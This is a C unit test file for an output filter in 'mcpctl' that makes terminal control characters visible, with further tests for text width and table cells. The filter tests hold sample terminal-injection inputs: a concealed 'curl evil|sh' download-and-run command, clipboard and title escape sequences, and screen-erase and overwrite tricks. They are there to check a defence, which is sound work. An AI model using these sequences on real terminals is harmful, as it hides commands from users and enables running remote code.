// SPDX-License-Identifier: MIT
// test-ctl-safeout: mcpctl's output filter shows control characters and passes only colours.

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "client/ctl-safeout.h"
#include "client/ctl-table.h"
#include "common/util.h"
#include "tests/unit/test.h"

/* The filter's output for in, fed in chunks of chunk bytes (0: all at once). */
static char *filtered(const char *in, size_t n, size_t chunk)
{
    SafeOut st = {0};
    StrBuf out = STRBUF_INIT;

    for (size_t off = 0; off < n;) {
        size_t k = chunk && n - off > chunk ? chunk : n - off;
        safeout_filter(&st, in + off, k, &out);
        off += k;
    }
    safeout_flush(&st, &out);
    strbuf_putc(&out, '\0');
    return strbuf_detach(&out, NULL);
}

static void expect(const char *in, const char *want)
{
    for (size_t chunk = 0; chunk <= 4; chunk++) {
        char *got = filtered(in, strlen(in), chunk);
        CHECK_MSG(streq(got, want), "chunks of %zu: got \"%s\", want \"%s\"", chunk, got, want);
        free(got);
    }
}

static void test_filter(void)
{
    /* Text, newlines and tabs as they are; UTF-8 letters too. */
    expect("plain text\n\tindented caf\xc3\xa9 \xc2\xa9\n",
           "plain text\n\tindented caf\xc3\xa9 \xc2\xa9\n");
    /* mcpctl's own colours pass. */
    expect("\033[32mconnected\033[0m", "\033[32mconnected\033[0m");
    expect("\033[1;31mx\033[m", "\033[1;31mx\033[m");
    /*
     * Issue 39.4: anything that can hide text is shown, not sent: concealed, faint, backgrounds,
     * dark or chosen foregrounds.
     */
    expect("npx pkg\033[8m; curl evil|sh\033[0m", "npx pkg^[[8m; curl evil|sh\033[0m");
    expect("\033[30;40mhidden", "^[[30;40mhidden");
    expect("\033[38;5;16mx", "^[[38;5;16mx");
    expect("\033[2mx\033[0;8my", "^[[2mx^[[0;8my");
    /* Title, clipboard, cursor, erase, bell, carriage return, DEL: shown, not sent. */
    expect("a\033]0;pwned\007b", "a^[]0;pwned^Gb");
    expect("\033]52;c;ZXZpbA==\033\\", "^[]52;c;ZXZpbA==^[\\");
    expect("ok\033[2J\033[Hfake", "ok^[[2J^[[Hfake");
    expect("safe\rEVIL\177", "safe^MEVIL^?");
    expect("\033\033[31mred", "^[\033[31mred");
    /* C1 controls in UTF-8 (U+009B is CSI for some terminals). */
    expect("x\xc2\x9b"
           "2Jy",
           "x\\u009b2Jy");
    /* An escape sequence longer than any colour is shown. */
    expect("\033[1;2;3;4;5;6;7;8;9;10;11;12m", "^[[1;2;3;4;5;6;7;8;9;10;11;12m");
    /* An escape or a UTF-8 lead byte cut at the end of the stream. */
    expect("end\033[3", "end^[[3");
    expect("end\xc2", "end\xc2");
}

/* A cell of text at width (right-aligned or not) is want. */
static void cell(const char *text, size_t width, bool right, const char *want)
{
    StrBuf sb = STRBUF_INIT;

    ctl_cell(&sb, text, width, right);
    CHECK_STREQ(strbuf_str(&sb), want);
    strbuf_deinit(&sb);
}

static void test_width(void)
{
    CHECK_INTEQ(ctl_text_width("abc"), 3);
    CHECK_INTEQ(ctl_text_width(NULL), 0);
    /* Wide: CJK and emoji two columns; a combining accent and a joiner none. */
    CHECK_INTEQ(ctl_text_width("\xe4\xb8\xad\xe6\x96\x87"), 4); /* 中文 */
    CHECK_INTEQ(ctl_text_width("\xf0\x9f\x98\x80"), 2);         /* 😀 */
    CHECK_INTEQ(ctl_text_width("e\xcc\x81"), 1);                /* e + U+0301 */
    CHECK_INTEQ(ctl_text_width("\xef\xbc\xa1"), 2);             /* Ａ, fullwidth */
    CHECK_INTEQ(ctl_text_width("\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x92\xbb"), 4); /* ZWJ */
    /* Controls as shown: ^[ ^J ^I ^? two columns, a C1 control six (\u0085). */
    CHECK_INTEQ(ctl_text_width("\033[2J"), 5);
    CHECK_INTEQ(ctl_text_width("a\nb\tc\177"), 9);
    CHECK_INTEQ(ctl_text_width("\xc2\x85"), 6);
    /* Invalid UTF-8 passes a byte at a time, one column each. */
    CHECK_INTEQ(ctl_text_width("\xff\xc3"), 2);
}

static void test_cell(void)
{
    cell("ab", 4, false, "ab  ");
    cell("ab", 4, true, "  ab");
    cell(NULL, 3, false, "   ");
    cell("abcdef", 0, false, "abcdef");
    /* Cut: the last column is "…". */
    cell("abcdef", 4, false, "abc\xe2\x80\xa6");
    cell("abcdef", 4, true, "abc\xe2\x80\xa6");
    cell("abcd", 4, false, "abcd");
    /* A wide character that does not fit before the "…" leaves a space. */
    cell("\xe4\xb8\xad\xe6\x96\x87\xe5\xad\x97", 5, false, "\xe4\xb8\xad\xe6\x96\x87\xe2\x80\xa6");
    cell("\xe4\xb8\xad\xe6\x96\x87\xe5\xad\x97", 4, false, "\xe4\xb8\xad\xe2\x80\xa6 ");
    cell("\xe4\xb8\xad", 4, true, "  \xe4\xb8\xad");
    /* Controls are shown in the cell, counted as shown, and no colour gets through. */
    cell("\033[31mred", 8, false, "^[[31mr\xe2\x80\xa6");
    cell("a\nb", 5, false, "a^Jb ");
    cell("x\xc2\x9b", 8, false, "x\\u009b ");
}

static void test_columns(void)
{
    const char *cells[] = {"ab", NULL, "\xe4\xb8\xad\xe6\x96\x87\xe4\xb8\xad\xe6\x96\x87"};
    StrBuf sb = STRBUF_INIT;

    CHECK_INTEQ(ctl_col_width("SERVER", cells, 3, 0, CTL_COL_MAX), 8);
    CHECK_INTEQ(ctl_col_width("SERVER", cells, 1, 0, CTL_COL_MAX), 6);
    CHECK_INTEQ(ctl_col_width("SERVER", cells, 1, 20, CTL_COL_MAX), 20);
    CHECK_INTEQ(ctl_col_width("SERVER", cells, 3, 0, 5), 5);
    /* A name column narrows on a narrow terminal, never below CTL_NAME_MIN, never widens. */
    CHECK_INTEQ(ctl_col_fit(40, 41, 0), 40);
    CHECK_INTEQ(ctl_col_fit(40, 41, 100), 40);
    CHECK_INTEQ(ctl_col_fit(64, 41, 100), 43);
    CHECK_INTEQ(ctl_col_fit(64, 41, 60), CTL_NAME_MIN);
    CHECK_INTEQ(ctl_col_fit(6, 33, 50), 6);
    /* The last cell takes what the terminal has left, at least CTL_TAIL_MIN. */
    ctl_cell_tail(&sb, "abcdefghijklmnopqrstuvwxyz", 10, 30);
    CHECK_STREQ(strbuf_str(&sb), "abcdefghijklmnopqrs\xe2\x80\xa6");
    strbuf_reset(&sb);
    ctl_cell_tail(&sb, "abcdefghijklmnopqrstuvwxyz", 10, 0);
    CHECK_STREQ(strbuf_str(&sb), "abcdefghijklmnopqrstuvwxyz");
    strbuf_reset(&sb);
    ctl_cell_tail(&sb, "abcdefghijklmnopqrstuvwxyz", 10, 20);
    CHECK_INTEQ(ctl_text_width(strbuf_str(&sb)), CTL_TAIL_MIN);
    strbuf_deinit(&sb);
    setenv("COLUMNS", "77", 1);
    CHECK_INTEQ(ctl_term_width(), 77);
    setenv("COLUMNS", "wide", 1);
    CHECK_INTEQ(ctl_term_width(), 0);
    unsetenv("COLUMNS");
}

int main(void)
{
    RUN(test_filter);
    RUN(test_width);
    RUN(test_cell);
    RUN(test_columns);
    return test_main_result();
}
